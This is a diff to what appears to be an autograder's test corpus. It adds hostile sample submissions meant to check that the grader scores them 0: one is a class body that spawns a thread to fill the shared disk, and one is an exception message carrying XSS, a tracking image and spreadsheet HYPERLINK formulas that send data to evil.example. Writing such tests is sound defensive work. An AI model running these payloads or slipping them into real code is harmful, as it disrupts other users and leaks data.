@@ -902,3 +902,38 @@ ENTRIES: list[Entry] = [
                               attempts("vae_loss", *ZYGOTE_REACHED))),
           sabotages=("reparameterize", "vae_loss"), hangs=1),
 ]
+
+
+# --- submissions graded on a small disk of their own (tests/corpus/test_resources.py), never in ENTRIES ---------
+
+# A class body (it runs when the definitions load) starts a thread that fills the working directory with small
+# files until the disk is full, and keeps it full: on a shared disk, the neighbours' gradings and the batch's ledger
+# fail. Every part must score 0 (the submission ends), the neighbours keep full marks.
+DISK_FILLER = Edit("vae_loss", "def vae_loss(", dedent("""\
+    class _Filler:
+        import os as _os, threading as _threading, time as _time
+
+        def _fill(os=_os, time=_time):
+            number = 0
+            while True:
+                try:
+                    with open(f"fill-{number}", "wb") as handle:
+                        handle.write(b"x")
+                    number += 1
+                except OSError:
+                    time.sleep(0.001)  # full: try again, to keep it full
+
+        _threading.Thread(target=_fill, daemon=True).start()
+
+
+    def vae_loss("""))
+
+# What a spreadsheet would run and a Markdown viewer would show as HTML and links, in an exception's message.
+INERT_PAYLOAD = ('[grades](javascript:alert(1)) <img src="http://track.example/p.gif"> <script>alert(1)</script> '
+                 '`code` =HYPERLINK("http://evil.example/?leak="&A1)')
+FORMULA_FOLDER = '=HYPERLINK("http:\u2215\u2215evil.example","x")'  # a folder name cannot hold "/"
+
+
+def formula_and_html() -> Edit:
+    """``vae_loss`` raises with ``INERT_PAYLOAD`` as its message (the part scores 0)."""
+    return sabotage("vae_loss", f"raise ValueError({INERT_PAYLOAD!r})")
